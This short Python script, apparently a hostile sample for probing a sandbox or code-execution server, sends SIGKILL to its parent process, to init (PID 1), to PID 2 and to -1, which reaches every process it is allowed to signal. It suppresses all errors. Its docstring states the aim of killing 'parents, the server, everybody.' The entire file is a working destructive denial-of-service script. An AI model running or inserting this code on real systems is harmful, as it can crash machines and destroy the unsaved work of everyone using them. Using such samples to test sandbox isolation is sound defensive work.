"""Whoever can be killed is killed: parents, the server, everybody."""
import os
import signal

for target in (os.getppid(), 1, -1, 2):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
